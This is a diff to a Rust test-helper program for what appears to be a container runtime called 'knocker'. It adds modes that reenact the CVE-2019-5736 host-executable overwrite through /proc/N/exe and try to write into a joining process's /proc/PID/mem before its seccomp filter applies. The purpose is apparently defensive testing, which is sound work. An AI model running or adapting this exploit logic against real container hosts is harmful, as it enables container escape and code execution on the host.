@@ -16,6 +16,17 @@
 //!   supervisor that execs an init without `-s`).
 //! - `nopdeath`: clears its own parent-death signal, prints `ready`, and waits forever.
 //!
+//! - `steal-exe SECONDS NEEDLE`: CVE-2019-5736 as an image would try it: for SECONDS, opens
+//!   (`O_PATH`) the executable of every other process whose `/proc/N/exe` names NEEDLE, and
+//!   keeps trying to reopen it for writing until nothing runs it any more; then writes over
+//!   it. Prints `opened LINK` for each it got hold of, then `overwrote LINK`, or at the end
+//!   `not overwritten` (with the last refusal).
+//! - `catch-joiner SECONDS`: for SECONDS, stops each new process of the container (not PID 1,
+//!   not itself) again and again (SIGSTOP, look, SIGCONT), and tries to open its memory for
+//!   writing while it still runs knocker's code; `caught LINK` once it could (code written
+//!   there would run with the container's credentials before its seccomp filter), else at
+//!   the end `not caught N` (N processes watched).
+//!
 //! For `cargo xtask bench` (the init's work, run as its child):
 //! - `orphans N`: a child forks N processes that exit at once, then exits itself, so N zombies
 //!   land on the init in one burst; prints the microseconds until /proc shows none left.
@@ -128,6 +139,8 @@ fn main(args: Args, env: Env) -> i32 {
                 let _ = time::sleep_ms(1_000_000);
             }
         }
+        (Some(b"steal-exe"), Some(secs)) => steal_exe(number(secs.to_bytes()), args.bytes(3).unwrap_or(b"knocker")),
+        (Some(b"catch-joiner"), Some(secs)) => catch_joiner(number(secs.to_bytes())),
         (Some(b"orphans"), Some(n)) => orphans(number(n.to_bytes())),
         (Some(b"time"), Some(program)) => {
             // Runs PROGRAM ARG... with its output discarded; prints `usec N status S`.
@@ -218,6 +231,157 @@ fn count_processes() -> usize {
         count += fs::dirents(&buf[..n]).filter(|(_, name)| name.first().is_some_and(u8::is_ascii_digit)).count();
     }
     count
+}
+
+/// Every process id in /proc but ours.
+fn other_pids(mut f: impl FnMut(i32)) {
+    let me = process::getpid();
+    let Ok(proc) = fs::open(c"/proc", fs::O_RDONLY | fs::O_DIRECTORY) else { return };
+    let mut buf = [0u8; 16384];
+    while let Ok(n @ 1..) = fs::getdents64(proc.raw(), &mut buf) {
+        for (_, name) in fs::dirents(&buf[..n]) {
+            match linker::text::decimal_value(name) {
+                Some(pid) if pid as i32 != me => f(pid as i32),
+                _ => {}
+            }
+        }
+    }
+}
+
+/// `/proc/PID/exe` (or `/proc/PID/mem`…) as a path.
+fn proc_file(pid: i32, file: &str) -> linker::Text<48> {
+    let mut t = linker::Text::new();
+    t.push("/proc/").push(pid).push("/").push(file);
+    t
+}
+
+/// Where `/proc/PID/exe` points, or the errno.
+fn exe_of(pid: i32, out: &mut [u8; 256]) -> Result<usize, Errno> {
+    let mut p = proc_file(pid, "exe");
+    fs::readlinkat(fs::AT_FDCWD, p.as_cstr()?, out)
+}
+
+fn steal_exe(secs: u64, needle: &[u8]) -> i32 {
+    let deadline = time::monotonic_ns() + secs * 1_000_000_000;
+    let mut held: Option<(linker::Fd, linker::Text<256>)> = None;
+    let mut last = Errno::ENOENT;
+    while time::monotonic_ns() < deadline {
+        other_pids(|pid| {
+            let mut link = [0u8; 256];
+            let Ok(n) = exe_of(pid, &mut link) else { return };
+            if held.is_some() || !link[..n].windows(needle.len()).any(|w| w == needle) {
+                return;
+            }
+            let mut p = proc_file(pid, "exe");
+            let Ok(c) = p.as_cstr() else { return };
+            if let Ok(fd) = fs::open(c, fs::O_PATH | fs::O_CLOEXEC) {
+                let mut shown = linker::Text::<256>::new();
+                shown.bytes(&link[..n]);
+                say!(1; "opened ", &shown);
+                held = Some((fd, shown));
+            }
+        });
+        if let Some((fd, shown)) = &held {
+            let mut p = proc_file(process::getpid(), "fd");
+            p.push("/").push(fd.raw());
+            let Ok(c) = p.as_cstr() else { break };
+            match fs::open(c, fs::O_WRONLY | fs::O_TRUNC | fs::O_CLOEXEC) {
+                Ok(w) => {
+                    let _ = fs::write_all(w.raw(), b"#!/bin/sh\necho overwritten by the container\n");
+                    say!(1; "overwrote ", shown);
+                    return 0;
+                }
+                // Something still runs it: wait until nothing does.
+                Err(Errno::ETXTBSY) => {}
+                Err(e) if e != last => {
+                    say!(1; "write refused ", e);
+                    last = e;
+                }
+                Err(_) => {}
+            }
+        }
+        let _ = time::sleep_ms(1);
+    }
+    say!(1; "not overwritten ", last);
+    0
+}
+
+fn catch_joiner(secs: u64) -> i32 {
+    let deadline = time::monotonic_ns() + secs * 1_000_000_000;
+    let mut seen = linker::List::<i32, 256>::new();
+    while time::monotonic_ns() < deadline {
+        let mut fresh = linker::List::<i32, 16>::new();
+        other_pids(|pid| {
+            if pid != 1 && !seen.as_slice().contains(&pid) {
+                let _ = fresh.push(pid);
+            }
+        });
+        for pid in fresh.iter() {
+            let _ = seen.push(pid);
+            match watch(pid, deadline) {
+                Watched::Caught(link) => {
+                    say!(1; "caught ", &link);
+                    return 0;
+                }
+                Watched::UntilExec(steps) => say!(1; "watched ", pid, " until its exec: ", steps, " stops"),
+                Watched::Gone => {}
+            }
+        }
+    }
+    say!(1; "not caught ", seen.len());
+    0
+}
+
+enum Watched {
+    /// Its memory opened for writing while it still ran knocker: what it ran.
+    Caught(linker::Text<256>),
+    /// It went on to exec another program, after this many stops.
+    UntilExec(u64),
+    Gone,
+}
+
+/// Steps `pid` (stop, look, continue) until it runs a program that is not knocker's, exits,
+/// or its memory opens for writing while it is still knocker.
+fn watch(pid: i32, deadline: u64) -> Watched {
+    let mut mem = proc_file(pid, "mem");
+    let Ok(mem) = mem.as_cstr() else { return Watched::Gone };
+    let mut steps = 0;
+    while time::monotonic_ns() < deadline {
+        if process::kill(pid, libc::SIGSTOP).is_err() {
+            return Watched::Gone;
+        }
+        steps += 1;
+        wait_stopped(pid);
+        let opened = fs::open(mem, fs::O_RDWR | fs::O_CLOEXEC).is_ok();
+        let mut link = [0u8; 256];
+        let exe = exe_of(pid, &mut link);
+        let _ = process::kill(pid, libc::SIGCONT);
+        match exe {
+            Ok(n) if !link[..n].windows(7).any(|w| w == b"knocker") => return Watched::UntilExec(steps),
+            Ok(n) if opened => {
+                let mut t = linker::Text::new();
+                t.bytes(&link[..n]);
+                return Watched::Caught(t);
+            }
+            Err(Errno::ENOENT | Errno::ESRCH) => return Watched::Gone,
+            _ => {}
+        }
+    }
+    Watched::Gone
+}
+
+/// Until /proc says `pid` is stopped (or gone), for a millisecond at most.
+fn wait_stopped(pid: i32) {
+    let mut p = proc_file(pid, "stat");
+    let Ok(c) = p.as_cstr() else { return };
+    for _ in 0..1000 {
+        let mut buf = [0u8; 512];
+        let Ok(n) = fs::read_file(c, &mut buf) else { return };
+        let state = buf[..n].iter().rposition(|&c| c == b')').and_then(|at| buf.get(at + 2)).copied();
+        if matches!(state, Some(b'T' | b't' | b'Z' | b'X')) {
+            return;
+        }
+    }
 }
 
 fn signals(n: u64) -> i32 {
